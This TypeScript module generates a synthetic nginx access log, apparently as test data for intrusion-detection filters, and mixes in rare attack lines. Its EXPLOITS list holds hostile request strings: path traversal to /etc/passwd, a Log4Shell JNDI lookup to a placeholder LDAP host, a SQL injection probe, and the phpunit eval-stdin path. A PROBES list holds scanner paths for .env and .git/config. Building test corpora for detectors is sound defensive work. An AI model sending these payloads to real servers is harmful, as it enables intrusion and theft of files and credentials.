/**
 * nginx's access log in the format "combined": half a per cent of it for three filters.
 *
 * @module
 */

import type { CorpusMaker, MadeLine } from "./corpus.ts";
import type { Random } from "./random.ts";
import { commonStamp, makeHost, Stamper } from "./stamps.ts";

const NONE: readonly string[] = [];
const BOTSEARCH = ["nginx-botsearch"];
const BAD_REQUEST = ["nginx-bad-request"];
const EXPLOIT = ["nginx-exploit"];

const PATHS: readonly string[] = [
  ...["/", "/", "/index.html", "/about", "/assets/app.3f9c2b1d.js"],
  ...[
    "/assets/style.77ab01.css",
    "/img/logo.svg",
    "/img/photos/2026/",
    "/feed.xml",
  ],
  ...[
    "/api/v1/items?page=",
    "/api/v1/session",
    "/api/v1/users/",
    "/blog/post-",
  ],
  ...[
    "/shop/cart",
    "/shop/item/",
    "/fonts/inter.woff2",
    "/robots.txt",
    "/search?q=shoes&size=",
  ],
];

const AGENTS: readonly string[] = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
  "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
  "curl/8.5.0",
];

const REFERRERS: readonly string[] = [
  "-",
  "-",
  "https://www.example.org/",
  "https://www.example.org/shop/cart",
  "https://www.example.org/blog/post-17",
  "https://search.example.com/",
];

/** One in fifty answers is 404, as on any site, and no failure. */
const STATUSES: readonly string[] = [
  ...Array<string>(38).fill("200"),
  ...Array<string>(6).fill("304"),
  ...["301", "301", "302", "206", "404"],
  "204",
];

const PROBES: readonly string[] = [
  ...[
    "/wp-login.php",
    "//xmlrpc.php?rsd",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
  ],
  ...[
    "/blog/wp-admin/setup-config.php",
    "/cgi-bin/luci",
    "/actuator/health",
    "/HNAP1/",
  ],
];

const GARBAGE: readonly string[] = [
  "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03",
  "SSH-2.0-Go",
  "",
  "\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr",
];

const EXPLOITS: readonly string[] = [
  "/download?file=../../../../../etc/passwd",
  "/?x=${jndi:ldap://203.0.113.200/a}",
  "/item?id=1%20UNION%20SELECT%201,2,3--",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
];

/** 1 GB is about 5.5 million lines, of eight hours. */
export const NGINX_ACCESS: CorpusMaker = {
  name: "access",
  version: 1,
  linesPerSecond: 200,
  makeLine: (random, second) => makeLine(random, stamper.at(second)),
};

const stamper = new Stamper(commonStamp);

function makeLine(random: Random, stamp: string): MadeLine {
  const dice = random.below(1000);
  if (dice >= 5) return makeVisit(random, stamp);
  const host = makeHost(random, 3, 20);
  const entry = (request: string, status: number) =>
    `${host} - - [${stamp}] "${request}" ${status} 153 "-" "${
      random.pick(AGENTS)
    }"`;
  if (dice < 3) {
    return {
      text: entry(`GET ${random.pick(PROBES)} HTTP/1.1`, 404),
      failures: BOTSEARCH,
      host,
    };
  }
  if (dice === 3) {
    return {
      text: entry(random.pick(GARBAGE), 400),
      failures: BAD_REQUEST,
      host,
    };
  }
  return {
    text: entry(`GET ${random.pick(EXPLOITS)} HTTP/1.1`, 200),
    failures: EXPLOIT,
    host,
  };
}

function makeVisit(random: Random, stamp: string): MadeLine {
  const host = makeHost(random, 201, 20_000);
  const method = random.below(12) === 0 ? "POST" : "GET";
  return {
    text: `${host} - - [${stamp}] "${method} ${random.pick(PATHS)}${
      random.below(5000)
    } HTTP/1.1" ${random.pick(STATUSES)} ${random.below(90_000)} "${
      random.pick(REFERRERS)
    }" "${random.pick(AGENTS)}"`,
    failures: NONE,
    host,
  };
}
